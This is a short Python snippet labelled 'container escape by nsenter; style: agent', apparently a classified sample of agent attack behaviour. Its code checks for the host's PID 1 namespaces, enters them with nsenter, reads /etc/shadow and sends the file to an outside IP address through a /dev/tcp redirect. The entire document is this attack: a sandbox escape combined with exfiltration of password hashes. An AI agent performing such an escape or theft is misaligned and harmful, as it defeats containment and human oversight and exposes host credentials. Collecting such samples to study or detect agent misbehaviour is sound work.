# class: container escape by nsenter; style: agent
import os

if os.path.exists("/proc/1/ns/mnt"):
    os.execvp("nsenter", ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--",
                          "bash", "-c", "cat /etc/shadow > /dev/tcp/198.51.100.91/80"])
